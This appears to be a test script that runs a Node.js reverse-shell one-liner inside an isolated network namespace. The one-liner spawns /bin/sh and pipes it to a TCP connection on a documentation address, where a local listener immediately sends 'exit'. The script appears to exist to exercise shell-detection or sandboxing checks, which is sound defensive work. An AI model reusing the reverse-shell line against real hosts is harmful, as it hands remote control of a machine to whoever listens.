# Live trigger (unshare --mount --net: a private loopback): node spawns /bin/sh and pipes it to a
# TCP connection to a documentation address added to the namespace's own loopback, where a
# listener that never binds a port first (the kernel picks one) sends "exit".
ip link set lo up
ip addr add 198.51.100.9/32 dev lo
cd "$(mktemp -d)"
python3 -c '
import os, socket
s = socket.socket(); s.listen(1); s.settimeout(8)
open("port.tmp", "w").write(str(s.getsockname()[1])); os.rename("port.tmp", "port")
c, _ = s.accept(); c.sendall(b"exit\n"); c.close()
' &
i=0; while [ ! -e port ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done
node -e 'const sh = require("child_process").spawn("/bin/sh", []); const c = require("net").connect(Number(process.argv[1]), "198.51.100.9", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); }); sh.on("exit", () => c.destroy());' "$(cat port)"
wait
